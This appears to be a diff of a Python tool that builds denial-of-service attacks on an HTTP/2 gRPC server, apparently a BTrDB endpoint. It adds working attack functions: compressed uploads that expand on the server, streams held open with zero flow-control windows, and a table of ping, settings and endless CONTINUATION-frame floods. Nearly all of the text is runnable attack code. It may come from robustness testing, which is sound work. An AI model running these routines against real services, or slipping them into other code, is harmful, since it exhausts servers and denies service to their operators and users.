@@ -136,27 +136,30 @@ class Uploads:
         self._received = b""
         self.answered: set[int] = set()
 
-    def begin(self, stream: int, path: str, length: int, *headers: tuple[str, str]) -> None:
+    def begin(self, stream: int, path: str, length: int | None, *headers: tuple[str, str]) -> None:
+        """Begins a call, and its message if that has a length already."""
         self.connection.sendall(frames.call(stream, path, *headers))
         self._windows[stream] = self._first
-        self.send(stream, b"\0" + struct.pack(">I", length))
+        if length is not None:
+            self.send(stream, b"\0" + struct.pack(">I", length))
 
-    def send(self, stream: int, data: bytes) -> bool:
+    def send(self, stream: int, data: bytes, *, is_last: bool = False) -> bool:
         """Whether all of it was taken before the server answered the call."""
         while data:
             room = min(self._window, self._windows[stream], len(data), 16_384)
             if stream in self.answered:
                 return False
             if room == 0:
-                self._receive()
+                self.receive()
                 continue
-            self.connection.sendall(frames.frame(frames.DATA, 0, stream, data[:room]))
+            flags = frames.END_STREAM if is_last and room == len(data) else 0
+            self.connection.sendall(frames.frame(frames.DATA, flags, stream, data[:room]))
             self._window -= room
             self._windows[stream] -= room
             data = data[room:]
         return True
 
-    def _receive(self) -> None:
+    def receive(self) -> None:
         received = self.connection.recv(1 << 16)
         if not received:
             raise ConnectionError("closed by the server")
@@ -223,30 +226,92 @@ def unfinished_uploads(
 
 
 def packed_uploads(endpoint: str, packed: bytes, encoding: str) -> Callable[[Attack], None]:
-    """Requests that are small only while they are packed, one after the other."""
+    """Requests that are small only while they are packed, as many at a time as are answered."""
+    path = "/v5api.BTrDB/ArrowInsert"
 
     def attack(of: Attack) -> None:
         while not of.is_over.is_set():
             with contextlib.suppress(OSError):
-                connection = frames.opened(endpoint)
+                uploads = Uploads(endpoint)
                 of.count(0, connections=1)
-                connection.settimeout(0.05)
-                with connection:
+                with uploads.connection:
                     for stream in range(1, 2_000, 2):
                         if of.is_over.is_set():
                             break
-                        path = "/v5api.BTrDB/ArrowInsert"
-                        connection.sendall(frames.call(stream, path, ("grpc-encoding", encoding)))
+                        uploads.begin(stream, path, None, ("grpc-encoding", encoding))
                         message = b"\1" + struct.pack(">I", len(packed)) + packed
-                        for at in range(0, len(message), 16_384):
-                            flags = frames.END_STREAM if at + 16_384 >= len(message) else 0
-                            data = message[at : at + 16_384]
-                            connection.sendall(frames.frame(frames.DATA, flags, stream, data))
-                        of.count(len(message))
-                        with contextlib.suppress(TimeoutError):
-                            connection.recv(1 << 16)
+                        if uploads.send(stream, message, is_last=True):
+                            of.count(len(message))
+                        # Sixteen are on their way on each connection.
+                        while stream - 2 * len(uploads.answered) > 32:
+                            uploads.receive()
 
     return attack
+
+
+def waiting_calls(
+    endpoint: str,
+    path: str,
+    of_each: int,
+    *headers: tuple[str, str],
+    message: bytes | None = None,
+) -> Callable[[Attack], None]:
+    """Calls that are kept waiting, `of_each` on each of ever more connections.
+
+    Without a message they wait for the rest of their request, with one for somebody who takes the
+    answer: there is no window for it.
+    """
+    request = b"" if message is None else frames.message(message)
+    calls = b"".join(
+        frames.call(stream, path, *headers)
+        + (b"" if message is None else frames.frame(frames.DATA, 1, stream, request))
+        for stream in range(1, 2 * of_each, 2)
+    )
+
+    def attack(of: Attack) -> None:
+        with contextlib.ExitStack() as held:
+            for _ in range(50):
+                if of.is_over.is_set():
+                    return
+                with contextlib.suppress(OSError):
+                    window = (frames.INITIAL_WINDOW_SIZE, 0)
+                    connection = held.enter_context(frames.opened(endpoint, window))
+                    connection.sendall(calls)
+                    of.count(of_each, connections=1)
+            of.is_over.wait()
+
+    return attack
+
+
+def flood(endpoint: str, flood: bytes, *, before: bytes = b"") -> Callable[[Attack], None]:
+    """The same frames again and again, of whose answers nobody reads any."""
+
+    def attack(of: Attack) -> None:
+        while not of.is_over.is_set():
+            with contextlib.suppress(OSError), frames.opened(endpoint) as connection:
+                of.count(0, connections=1)
+                connection.settimeout(0.5)
+                connection.sendall(before)
+                while not of.is_over.is_set():
+                    connection.sendall(flood)
+                    of.count(len(flood))
+
+    return attack
+
+
+# Frames that cost their sender nothing: pings and settings to answer, headers without an end.
+FLOODS = {
+    "pings": (frames.frame(frames.PING, 0, 0, bytes(8)) * 1_000, b""),
+    "settings": (frames.frame(frames.SETTINGS, 0, 0, bytes(6 * 10)) * 500, b""),
+    "headers": (
+        frames.frame(frames.CONTINUATION, 0, 1, frames.literal("x", "y" * 100) * 100),
+        frames.frame(frames.HEADERS, 0, 1, frames.literal(":method", "POST")),
+    ),
+    "empty headers": (
+        frames.frame(frames.CONTINUATION, 0, 1) * 1_000,
+        frames.frame(frames.HEADERS, 0, 1, frames.literal(":method", "POST")),
+    ),
+}
 
 
 @contextlib.contextmanager
